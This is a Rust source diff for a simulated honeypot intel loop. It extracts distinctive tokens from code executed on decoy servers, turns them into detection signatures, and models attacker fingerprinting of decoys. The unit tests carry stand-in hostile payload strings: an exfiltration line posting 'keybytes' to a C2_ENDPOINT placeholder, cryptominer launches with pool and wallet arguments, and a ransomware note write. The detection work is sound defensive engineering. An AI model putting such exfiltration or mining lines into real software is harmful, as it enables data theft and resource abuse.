@@ -11,15 +11,17 @@
 //!    deliberately exposed decoy servers; [`build_wave`] constructs an
 //!    internet-wave [`Campaign`] that visits production servers and
 //!    decoys in shuffled order, so decoys receive *real* campaign
-//!    traffic through the scenario stream.
+//!    traffic through the scenario stream. An attacker skips a decoy
+//!    it [`fingerprinted`].
 //! 2. While [`Pipeline::run`] pumps the stream, an intel loop watches
-//!    kernel-audit items from decoy servers. Anything executing on a decoy is hostile by construction; each
-//!    cell is recorded via [`Decoy::capture`].
-//! 3. Every distinct captured payload yields a signature
-//!    ([`ja_honeypot::signature::rule_from_capture`]) published into
-//!    the monitor's hot-reloadable [`RuleFeed`] with `available_at =
-//!    learned_at + propagation` — so production flows that begin after
-//!    propagation raise
+//!    kernel-audit items from decoy servers. Anything executing on a
+//!    decoy is hostile by construction; each such cell counts as a
+//!    capture.
+//! 3. Every distinct captured payload (keyed on its
+//!    [`distinctive_token`]) yields a signature ([`rule_from_capture`])
+//!    published into the monitor's hot-reloadable [`RuleFeed`] with
+//!    `available_at = learned_at + propagation` — so production flows
+//!    that begin after propagation raise
 //!    [`AlertSource::HoneypotIntel`](ja_monitor::alerts::AlertSource)
 //!    alerts mid-stream, and nothing matches retroactively. The feed is
 //!    the loop's one record of what it learned: the signature sequence
@@ -38,17 +40,113 @@
 use ja_attackgen::campaign::{Campaign, CampaignStep};
 use ja_attackgen::stream::ScenarioItem;
 use ja_attackgen::AttackClass;
-use ja_honeypot::intel::PublishedRule;
-use ja_honeypot::signature::{distinctive_token, rule_from_capture};
-use ja_honeypot::Decoy;
 use ja_kernelsim::actions::{Action, CellScript};
-use ja_kernelsim::deployment::Deployment;
+use ja_kernelsim::deployment::{Deployment, DeploymentSpec};
 use ja_kernelsim::events::SysEventKind;
-use ja_monitor::rules::{FeedCheckpoint, Pattern, RuleFeed};
+use ja_monitor::rules::{FeedCheckpoint, Pattern, Rule, RuleFeed, RuleOrigin};
 use ja_netsim::addr::HostAddr;
 use ja_netsim::rng::SimRng;
 use ja_netsim::time::{Duration, SimTime};
 use std::collections::HashSet;
+
+/// Tokens too common in benign scientific code to be signatures.
+const BENIGN_VOCAB: &[&str] = &[
+    "import",
+    "numpy",
+    "pandas",
+    "print",
+    "range",
+    "model",
+    "train",
+    "data",
+    "read_csv",
+    "describe",
+    "install",
+    "python",
+    "matplotlib",
+    "torch",
+    "return",
+    "lambda",
+    "append",
+    "figure",
+    "plot",
+    "shape",
+    "array",
+    "float",
+    "update",
+    "values",
+];
+
+/// Extract the most distinctive token from hostile code: the longest
+/// token of length ≥ 5 that is not benign vocabulary. Falls back to the
+/// leading 24 characters when nothing qualifies.
+///
+/// The benign check compares *whole identifiers*, not substrings: a
+/// payload token that merely contains a benign word
+/// (`cryptominer_update_v2` contains `update`) is exactly the kind of
+/// malware-specific string we want as a signature, not something to
+/// discard. Dotted compounds are rejected when *any* component is a
+/// benign identifier: `pandas.read_csv`, `matplotlib.pyplot` or
+/// `torch.nn.Linear` must never become signatures — they would match
+/// half the benign notebooks in the fleet.
+pub fn distinctive_token(code: &str) -> String {
+    let is_benign = |token: &str| token.split('.').any(|part| BENIGN_VOCAB.contains(&part));
+    let mut best: Option<&str> = None;
+    for token in code.split(|c: char| !(c.is_alphanumeric() || c == '_' || c == '.')) {
+        if token.len() < 5 {
+            continue;
+        }
+        let lower = token.to_ascii_lowercase();
+        if is_benign(&lower) {
+            continue;
+        }
+        if best.map(|b| token.len() > b.len()).unwrap_or(true) {
+            best = Some(token);
+        }
+    }
+    match best {
+        Some(t) => t.to_string(),
+        None => code.chars().take(24).collect(),
+    }
+}
+
+/// Build a code-substring rule from a captured payload. `decoy_id` and
+/// `seq` make the rule id unique; the class is the decoy operator's
+/// triage verdict (campaign class in our experiments).
+pub fn rule_from_capture(decoy_id: u32, seq: usize, class: AttackClass, code: &str) -> Rule {
+    Rule {
+        id: format!("hp-{decoy_id}-{seq}"),
+        class,
+        pattern: Pattern::CodeSubstring(distinctive_token(code)),
+        confidence: 0.85,
+        origin: RuleOrigin::HoneypotIntel,
+    }
+}
+
+/// Does a fingerprinting attacker identify (and skip) a decoy?
+/// `realism` in [0, 1] is how well the decoy resists fingerprinting
+/// (the paper cites a taxonomy of honeypot-fingerprinting techniques;
+/// realism is the defender-side summary of it) and is clamped to that
+/// range. `sophistication` in [0, 1] is the probability mass the
+/// attacker invests in fingerprinting. One draw from `rng`.
+pub fn fingerprinted(realism: f64, sophistication: f64, rng: &mut SimRng) -> bool {
+    // A fully realistic decoy is never identified; a naive decoy is
+    // caught by any attacker that bothers to check.
+    rng.chance(sophistication * (1.0 - realism.clamp(0.0, 1.0)))
+}
+
+/// A published rule with its availability time: a rule learned at the
+/// edge becomes usable by production monitors after a propagation delay
+/// (triage + push).
+#[derive(Clone, Debug, serde::Serialize, serde::Deserialize)]
+pub struct PublishedRule {
+    /// When the decoy captured the underlying payload.
+    pub learned_at: SimTime,
+    /// When production monitors can use it.
+    pub available_at: SimTime,
+    /// The rule.
+    pub rule: Rule,
+}
 
 /// Configuration of the pipeline-owned intel loop. Present (`Some`) on
 /// a [`PipelineConfig`](crate::pipeline::PipelineConfig) it activates
@@ -60,7 +158,7 @@ pub struct IntelConfig {
     /// signature becoming usable by production monitors.
     pub propagation: Duration,
     /// Realism of the decoy fleet in [0, 1] (resistance to
-    /// fingerprinting; see [`Decoy::fingerprinted_by`]).
+    /// fingerprinting; see [`fingerprinted`]).
     pub realism: f64,
     /// The class a decoy operator's triage assigns to captured
     /// payloads (our experiments run single-class waves, so this is
@@ -78,11 +176,15 @@ impl Default for IntelConfig {
     }
 }
 
-/// Per-run state of the intel loop: the decoy fleet's capture books and
-/// the live feed handle shared with the monitor shards.
+/// Per-run state of the intel loop: which servers are decoys, the
+/// capture count and the live feed handle shared with the monitor
+/// shards.
 pub(crate) struct IntelLoop {
+    /// Server id of the first decoy (production ids are below it).
     decoy_base: u32,
-    decoys: Vec<Decoy>,
+    decoys: u32,
+    captures: u64,
+    first_capture: Option<SimTime>,
     propagation: Duration,
     feed: RuleFeed,
     /// Payload tokens the feed already signs: an index over the feed's
@@ -92,17 +194,14 @@ pub(crate) struct IntelLoop {
 }
 
 impl IntelLoop {
-    /// Fresh loop state for one streamed run: one [`Decoy`] per decoy
-    /// server and an empty feed.
-    pub(crate) fn new(cfg: &IntelConfig, deployment: &Deployment) -> Self {
-        let decoy_base = deployment.production_count() as u32;
-        let decoys = deployment
-            .decoy_indices()
-            .map(|i| Decoy::new(i as u32, cfg.realism))
-            .collect();
+    /// Fresh loop state for one streamed run over a deployment built
+    /// from `spec`: no captures and an empty feed.
+    pub(crate) fn new(cfg: &IntelConfig, spec: &DeploymentSpec) -> Self {
         IntelLoop {
-            decoy_base,
-            decoys,
+            decoy_base: spec.servers as u32,
+            decoys: spec.decoys as u32,
+            captures: 0,
+            first_capture: None,
             propagation: cfg.propagation,
             feed: RuleFeed::new(),
             tokens: HashSet::new(),
@@ -116,28 +215,25 @@ impl IntelLoop {
     }
 
     /// Watch one scenario item. A `CellExecute` audit event on a decoy
-    /// server is an attacker interaction: capture it, and publish a
+    /// server is an attacker interaction: count it, and publish a
     /// signature for every payload not yet signed. Publication happens
     /// *inside* the pump loop, so by stream ordering every flow a rule
     /// may match (flows beginning at/after `available_at`) is analyzed
     /// with the rule already in the feed.
     pub(crate) fn observe(&mut self, item: &ScenarioItem) {
         let ScenarioItem::Sys(ev) = item else { return };
-        if ev.server_id < self.decoy_base {
+        if !(self.decoy_base..self.decoy_base + self.decoys).contains(&ev.server_id) {
             return;
         }
-        let Some(decoy) = self
-            .decoys
-            .get_mut((ev.server_id - self.decoy_base) as usize)
-        else {
-            return;
-        };
         let SysEventKind::CellExecute { code, .. } = &ev.kind else {
             return;
         };
-        decoy.capture(ev.time, code);
+        self.captures += 1;
+        // The stream is time-ordered, so the first capture is the
+        // earliest.
+        self.first_capture.get_or_insert(ev.time);
         if self.tokens.insert(distinctive_token(code)) {
-            let rule = rule_from_capture(decoy.id, self.feed.len(), self.triage_class, code);
+            let rule = rule_from_capture(ev.server_id, self.feed.len(), self.triage_class, code);
             let inserted = self.feed.publish(ev.time + self.propagation, rule);
             // Token-dedup guarantees a fresh id, so every publish must
             // bump the feed epoch (one shard recompile each).
@@ -145,14 +241,9 @@ impl IntelLoop {
         }
     }
 
-    /// Finish the run: the decoy fleet's state and everything the feed
+    /// Finish the run: the capture count and everything the feed
     /// published.
     pub(crate) fn into_outcome(self) -> IntelOutcome {
-        let first_capture = self
-            .decoys
-            .iter()
-            .flat_map(|d| d.captures.iter().map(|c| c.time))
-            .min();
         // Availability is learned-at plus propagation, exact in u64
         // microseconds, so subtracting recovers the capture instant.
         let published: Vec<PublishedRule> = self
@@ -166,35 +257,32 @@ impl IntelLoop {
             })
             .collect();
         IntelOutcome {
-            captures: self.decoys.iter().map(|d| d.captures.len()).sum(),
-            first_capture,
+            captures: self.captures as usize,
+            first_capture: self.first_capture,
             first_available: published.iter().map(|p| p.available_at).min(),
             published,
-            decoys: self.decoys,
         }
     }
 
-    /// Serializable copy of the loop's full durable state. Restoring it
-    /// (possibly in another process) yields a loop that observes the
-    /// remainder of a stream exactly as this one would have.
+    /// What the configuration cannot rebuild of the loop's state.
+    /// Restoring it (possibly in another process) under the same
+    /// configuration yields a loop that observes the remainder of a
+    /// stream exactly as this one would have.
     pub(crate) fn snapshot(&self) -> IntelSnapshot {
         IntelSnapshot {
-            decoy_base: self.decoy_base,
-            decoys: self.decoys.clone(),
-            propagation: self.propagation,
+            captures: self.captures,
+            first_capture: self.first_capture,
             feed: self.feed.checkpoint(),
-            triage_class: self.triage_class,
         }
     }
 
     /// Rebuild a loop from a checkpointed state instead of starting
     /// fresh — the service epoch loop's way of carrying learned
     /// signatures (and their dedup history) across epochs and restarts.
-    pub(crate) fn restore(snap: &IntelSnapshot) -> Self {
+    pub(crate) fn restore(cfg: &IntelConfig, spec: &DeploymentSpec, snap: &IntelSnapshot) -> Self {
         IntelLoop {
-            decoy_base: snap.decoy_base,
-            decoys: snap.decoys.clone(),
-            propagation: snap.propagation,
+            captures: snap.captures,
+            first_capture: snap.first_capture,
             feed: RuleFeed::restore(&snap.feed),
             tokens: snap
                 .feed
@@ -205,34 +293,29 @@ impl IntelLoop {
                     _ => None,
                 })
                 .collect(),
-            triage_class: snap.triage_class,
+            ..IntelLoop::new(cfg, spec)
         }
     }
 }
 
-/// Checkpointed state of the honeypot intel loop: the decoy fleet's
-/// capture books and the hot-reload feed contents (rules + generation
-/// epoch). Everything `IntelLoop` needs to resume mid-service without
-/// re-learning or double-publishing a signature.
-#[derive(Clone, Debug, serde::Serialize, serde::Deserialize)]
+/// Checkpointed state of the honeypot intel loop: what the
+/// [`IntelConfig`] and the deployment spec cannot rebuild — the capture
+/// count and the hot-reload feed's rules. Everything `IntelLoop` needs
+/// to resume mid-service without re-learning or double-publishing a
+/// signature.
+#[derive(Clone, Debug, PartialEq, serde::Serialize, serde::Deserialize)]
 pub struct IntelSnapshot {
-    /// First decoy server id (production ids are below it).
-    pub decoy_base: u32,
-    /// The decoy fleet, capture books included.
-    pub decoys: Vec<Decoy>,
-    /// Triage + distribution latency of every published signature.
-    pub propagation: Duration,
-    /// Hot-reload feed contents and generation epoch.
+    /// Attacker interactions captured so far across the decoy fleet.
+    pub captures: u64,
+    /// Earliest decoy capture, if any.
+    pub first_capture: Option<SimTime>,
+    /// Hot-reload feed contents.
     pub feed: FeedCheckpoint,
-    /// The triage class assigned to captured payloads.
-    pub triage_class: AttackClass,
 }
 
 /// What the intel loop did during one streamed run.
 #[derive(Clone, Debug)]
 pub struct IntelOutcome {
-    /// The decoy fleet after the run, capture books included.
-    pub decoys: Vec<Decoy>,
     /// Total attacker interactions captured across the fleet.
     pub captures: usize,
     /// Rules published to the feed (one per distinct payload, first
@@ -358,7 +441,7 @@ pub fn build_wave(
         });
         let drop_at = probe_at + Duration::from_secs(1);
         if deployment.is_decoy(server) {
-            if Decoy::new(server as u32, intel.realism).fingerprinted_by(spec.sophistication, rng) {
+            if fingerprinted(intel.realism, spec.sophistication, rng) {
                 decoys_skipped += 1;
                 continue;
             }
@@ -388,10 +471,14 @@ pub fn build_wave(
 #[cfg(test)]
 mod tests {
     use super::*;
-    use ja_kernelsim::deployment::DeploymentSpec;
+
+    /// Four production servers, then `decoys` decoys (ids 4, 5, …).
+    fn lab(decoys: usize) -> DeploymentSpec {
+        DeploymentSpec::small_lab(3).with_decoys(decoys)
+    }
 
     fn site(decoys: usize) -> Deployment {
-        Deployment::build(&DeploymentSpec::small_lab(3).with_decoys(decoys))
+        Deployment::build(&lab(decoys))
     }
 
     #[test]
@@ -461,7 +548,7 @@ mod tests {
 
     #[test]
     fn intel_loop_captures_and_publishes_once_per_payload() {
-        let d = site(2);
+        let d = lab(2);
         let cfg = IntelConfig {
             propagation: Duration::from_secs(300),
             ..Default::default()
@@ -484,13 +571,11 @@ mod tests {
         assert_eq!(out.first_capture, Some(SimTime::from_secs(10)));
         // learned at 10s + 300s propagation.
         assert_eq!(out.first_available, Some(SimTime::from_secs(310)));
-        assert_eq!(out.decoys[0].captures.len(), 1);
-        assert_eq!(out.decoys[1].captures.len(), 2);
     }
 
     #[test]
     fn rules_become_available_after_delay() {
-        let d = site(1);
+        let d = lab(1);
         let cfg = IntelConfig {
             propagation: Duration::from_secs(600),
             ..Default::default()
@@ -506,7 +591,7 @@ mod tests {
 
     #[test]
     fn merges_over_base_without_duplicates() {
-        let d = site(2);
+        let d = lab(2);
         let cfg = IntelConfig {
             propagation: Duration::ZERO,
             ..Default::default()
@@ -527,7 +612,7 @@ mod tests {
 
     #[test]
     fn empty_bus() {
-        let il = IntelLoop::new(&IntelConfig::default(), &site(2));
+        let il = IntelLoop::new(&IntelConfig::default(), &lab(2));
         assert!(il.feed().is_empty());
         let out = il.into_outcome();
         assert!(out.published.is_empty());
@@ -536,7 +621,7 @@ mod tests {
 
     #[test]
     fn victims_hit_counts_visits_before_first_availability() {
-        let d = site(1);
+        let d = lab(1);
         let mut out = IntelLoop::new(&IntelConfig::default(), &d).into_outcome();
         let visits = [(0, Duration::from_secs(10)), (1, Duration::from_secs(40))];
         let start = SimTime::from_secs(60);
@@ -550,7 +635,7 @@ mod tests {
 
     #[test]
     fn intel_snapshot_round_trips_and_keeps_dedup_across_restore() {
-        let d = site(2);
+        let d = lab(2);
         let mut il = IntelLoop::new(&IntelConfig::default(), &d);
         il.observe(&exec(4, 10, "evil_dropper_v1()"));
         il.observe(&exec(5, 20, "evil_dropper_v2()"));
@@ -559,14 +644,13 @@ mod tests {
         let json = serde_json::to_string(&snap).unwrap();
         let back: IntelSnapshot =
             serde::Deserialize::from_value(&serde_json::from_str(&json).unwrap()).unwrap();
-        assert_eq!(serde_json::to_string(&back).unwrap(), json);
-        assert_eq!(back.feed.epoch, snap.feed.epoch);
+        assert_eq!(back, snap);
         assert_eq!(back.feed.rules.len(), 2);
 
         // A restored loop dedups payloads learned before the restore
         // (no re-publish) but still learns genuinely new ones, numbering
         // them after the feed's rules.
-        let mut restored = IntelLoop::restore(&back);
+        let mut restored = IntelLoop::restore(&IntelConfig::default(), &d, &back);
         assert_eq!(restored.feed().len(), 2);
         let epoch_before = restored.feed().epoch();
         restored.observe(&exec(4, 30, "evil_dropper_v1()"));
@@ -575,9 +659,108 @@ mod tests {
         restored.observe(&exec(4, 40, "evil_dropper_v3()"));
         assert_eq!(restored.feed().len(), 3);
         let out = restored.into_outcome();
-        // Capture books carried over plus the two new interactions.
+        // The capture count carried over, plus the two new interactions.
         assert_eq!(out.captures, 4);
         assert_eq!(out.published.len(), 3);
         assert_eq!(out.published[2].rule.id, "hp-4-2");
+    }
+
+    #[test]
+    fn realism_bounds_fingerprinting() {
+        let mut rng = SimRng::new(1);
+        let mut hits = |realism| {
+            (0..1000)
+                .filter(|_| fingerprinted(realism, 1.0, &mut rng))
+                .count()
+        };
+        assert_eq!(hits(1.0), 0);
+        assert!(hits(0.0) > 900);
+    }
+
+    #[test]
+    fn unsophisticated_attacker_never_fingerprints() {
+        let mut rng = SimRng::new(2);
+        assert!(!(0..100).any(|_| fingerprinted(0.0, 0.0, &mut rng)));
+    }
+
+    #[test]
+    fn realism_clamped() {
+        // Unclamped, realism -1.0 at sophistication 0.5 would always
+        // fingerprint.
+        let mut rng = SimRng::new(3);
+        assert!((0..100).any(|_| !fingerprinted(-1.0, 0.5, &mut rng)));
+        assert!(!(0..100).any(|_| fingerprinted(7.0, 1.0, &mut rng)));
+    }
+
+    #[test]
+    fn extracts_malware_specific_token() {
+        let t = distinctive_token("subprocess.Popen(['/tmp/.x','-o','pool:3333'])");
+        assert!(t.contains("subprocess.Popen") || t.contains("/tmp/.x") || t.len() >= 5);
+        // Must not be a benign-vocabulary word.
+        assert!(!BENIGN_VOCAB.contains(&t.to_ascii_lowercase().as_str()));
+    }
+
+    #[test]
+    fn benign_heavy_code_falls_back() {
+        let t = distinctive_token("import numpy");
+        assert_eq!(t, "import numpy"); // fallback prefix (< 24 chars)
+    }
+
+    #[test]
+    fn token_containing_benign_word_is_still_distinctive() {
+        // Regression: `lower.contains(b)` used to reject any token that
+        // merely contained a benign word, so this payload fell through
+        // to the weak 24-char-prefix fallback.
+        let t = distinctive_token("run('/opt/cryptominer_update_v2 --wallet 4A6h')");
+        assert_eq!(t, "cryptominer_update_v2");
+        // Whole-token matches are still rejected.
+        let t2 = distinctive_token("update describe import");
+        assert_eq!(t2, "update describe import"); // prefix fallback
+    }
+
+    #[test]
+    fn dotted_benign_compounds_never_become_signatures() {
+        // `pandas.read_csv` / `matplotlib.pyplot` / `df.describe` are
+        // single tokens (the tokenizer keeps '.'); any benign component
+        // disqualifies them — publishing one as a rule would alert on
+        // half the benign notebooks in the fleet.
+        let code = "import pandas\npandas.read_csv('http://e/x')";
+        let t = distinctive_token(code);
+        assert_eq!(t, code.chars().take(24).collect::<String>()); // fallback
+        let code2 = "df = pd.read_csv('x')\ndf.describe()";
+        let t2 = distinctive_token(code2);
+        assert_eq!(t2, code2.chars().take(24).collect::<String>()); // fallback
+
+        // A benign import must not out-length the actual malware token
+        // even when one of its components is missing from the vocab.
+        let t3 = distinctive_token("import matplotlib.pyplot\nrun('/tmp/.xmrig_y7')");
+        assert_eq!(t3, ".xmrig_y7");
+    }
+
+    #[test]
+    fn rules_are_honeypot_attributed() {
+        let rule = rule_from_capture(1, 0, AttackClass::Cryptomining, "evil_stratum_loader()");
+        assert_eq!(rule.origin, RuleOrigin::HoneypotIntel);
+    }
+
+    #[test]
+    fn rule_matches_its_own_payload() {
+        let code = "open('README_RESTORE.txt','w').write(note)";
+        let rule = rule_from_capture(3, 0, AttackClass::Ransomware, code);
+        match &rule.pattern {
+            Pattern::CodeSubstring(s) => assert!(code.contains(s.as_str()), "{s}"),
+            p => panic!("unexpected pattern {p:?}"),
+        }
+        assert!(rule.id.starts_with("hp-3-"));
+    }
+
+    #[test]
+    fn rule_does_not_match_typical_benign_cell() {
+        let benign = "df = pd.read_csv('data.csv')\ndf.describe()";
+        let hostile = "requests.post(C2_ENDPOINT, data=keybytes)";
+        let rule = rule_from_capture(1, 0, AttackClass::DataExfiltration, hostile);
+        if let Pattern::CodeSubstring(s) = &rule.pattern {
+            assert!(!benign.contains(s.as_str()), "signature {s} too generic");
+        }
     }
 }
